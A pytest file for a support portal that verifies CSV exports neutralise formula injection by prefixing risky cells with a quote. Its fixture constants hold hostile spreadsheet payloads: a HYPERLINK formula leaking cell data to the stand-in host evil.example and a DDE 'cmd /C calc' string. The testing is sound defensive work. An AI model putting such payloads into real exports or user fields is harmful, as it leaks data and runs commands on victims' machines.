"""CSV exports never carry a formula: text typed as ``=...``, ``+...``, ``-...``, ``@...`` (or after a tab or CR) is
written with a leading ``'``, in every CSV the portal writes: report pages, assessment reports and the CLI."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from assessments_harness import ALL_TYPES, REPO, begin, learner, load_quiz, right_answers, submit
from click.testing import CliRunner
from support_harness import DATA, Browser, Live, start_server, stop_server

from support.cli import register
from support.tables import csv_cell

SUBJECT = '=HYPERLINK("http://evil.example/?"&A1,"open")'
PAGE_TITLE = "+cmd|' /C calc'!A0"
CATEGORY = "-2+3"
ARTICLE_TITLE = "@SUM(A1:A9)"
QUIZ_TITLE = "@SUM(1+1) basics"
PROMPT = '=HYPERLINK("http://evil.example","Which stop type holds the parts for quality?")'
CERTIFICATE = "=2+3 certificate"
LEARNER = "\tTab Learner"


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Live, Browser]]:
    """A backend whose ticket, category, KB title, quiz, certificate and learner all hold text that reads as a formula."""
    tmp = tmp_path_factory.mktemp("csv")
    kb = json.loads((DATA / "kb.json").read_text())
    next(p for p in kb["pages"] if p["id"] == "clear-conveyor-jam")["title"] = ARTICLE_TITLE
    (tmp / "kb.json").write_text(json.dumps(kb))
    quiz = ALL_TYPES.read_text().replace("title: Every question type", f"title: '{QUIZ_TITLE}'")
    quiz = quiz.replace("name: Line Operator Basics", f"name: '{CERTIFICATE}'")
    quiz = quiz.replace("prompt: Which stop type holds the parts for quality?", f"prompt: '{PROMPT}'")
    (tmp / "quizzes").mkdir()
    (tmp / "quizzes" / "all-types.yml").write_text(quiz)
    server, thread, live = start_server(tmp, portal_dir=REPO, quizzes_dir=tmp / "quizzes", kb_path=tmp / "kb.json",
                                        categories=f"Question,{CATEGORY}")
    live.file(subject=SUBJECT, page_title=PAGE_TITLE, category=CATEGORY)
    live.file(subject="Jammed again", page_id="clear-conveyor-jam")  # linked to its page's article
    taker = learner(live, "tab@example.com", name=LEARNER)
    attempt = begin(taker)
    submit(taker, attempt, right_answers(load_quiz(tmp / "quizzes" / "all-types.yml"), attempt))
    yield live, learner(live, "ada@example.com", "admin")
    stop_server(server, thread, live)


def cells(text: str) -> set[str]:
    """Every cell of a CSV text."""
    return {cell for row in csv.reader(io.StringIO(text)) for cell in row}


def download(browser: Browser, url: str) -> set[str]:
    """The cells of a CSV download."""
    response = browser.get(url)
    assert response.status_code == 200 and response.headers["content-type"] == "text/csv; charset=utf-8"
    return cells(response.text)


def test_a_cell_that_reads_as_a_formula_gets_a_leading_quote() -> None:
    """Text starting with = + - @ tab or CR is prefixed with ', other text and numbers (negative ones too) stay as they are."""
    assert [csv_cell(v) for v in ["=1+1", "+1", "-1", "@A1", "\tx", "\rx"]] == ["'=1+1", "'+1", "'-1", "'@A1", "'\tx", "'\rx"]
    assert [csv_cell(v) for v in ["a=1", " =1", "", -5, -0.5, None]] == ["a=1", " =1", "", -5, -0.5, None]


def test_ticket_report_csvs_neutralise_formulas(hostile: tuple[Live, Browser]) -> None:
    """knowledge_gaps.csv and top_articles.csv carry the subject, page title, category and article title quoted."""
    _, admin = hostile
    gaps = download(admin, "/support/reports/knowledge_gaps.csv")
    assert {f"'{SUBJECT}", f"'{PAGE_TITLE}", f"'{CATEGORY}"} <= gaps and SUBJECT not in gaps
    assert f"'{ARTICLE_TITLE}" in download(admin, "/support/reports/top_articles.csv")


def test_certification_csvs_neutralise_formulas(hostile: tuple[Live, Browser]) -> None:
    """The certification tables carry the learner's name and the certificate's name quoted."""
    _, admin = hostile
    found = download(admin, "/support/certifications/certification_status.csv")
    assert {f"'{LEARNER}", f"'{CERTIFICATE}"} <= found and LEARNER not in found


def test_assessment_report_csvs_neutralise_formulas(hostile: tuple[Live, Browser]) -> None:
    """The pass-rate table carries the quiz title quoted, the item analysis the question's prompt."""
    _, admin = hostile
    assert f"'{QUIZ_TITLE}" in download(admin, "/support/assessment-reports/quiz_summary.csv")
    assert f"'{PROMPT}" in download(admin, "/support/assessment-reports/all-types-items.csv")


@click.group()
def portal() -> None:
    """Stand-in for the lead's ``portal`` group."""


register(portal)


def test_cli_report_csvs_neutralise_formulas(hostile: tuple[Live, Browser], tmp_path: Path) -> None:
    """``portal report tickets --csv`` and ``portal report certifications --csv`` write the same quoted cells."""
    live, _ = hostile
    runner = CliRunner()
    tickets = runner.invoke(portal, ["report", "tickets", "--csv", str(tmp_path / "t"), "--data-dir", str(live.data_dir)])
    assert tickets.exit_code == 0, tickets.output
    assert {f"'{SUBJECT}", f"'{PAGE_TITLE}", f"'{CATEGORY}"} <= cells((tmp_path / "t" / "knowledge_gaps.csv").read_text())
    certs = runner.invoke(portal, ["report", "certifications", "--csv", str(tmp_path / "c"), "--kb", str(live.data_dir.parent / "kb.json"),
                                   "--portal-dir", str(REPO), "--data-dir", str(live.data_dir)])
    assert certs.exit_code == 0, certs.output
    assert {f"'{LEARNER}", f"'{CERTIFICATE}"} <= cells((tmp_path / "c" / "certification_status.csv").read_text())
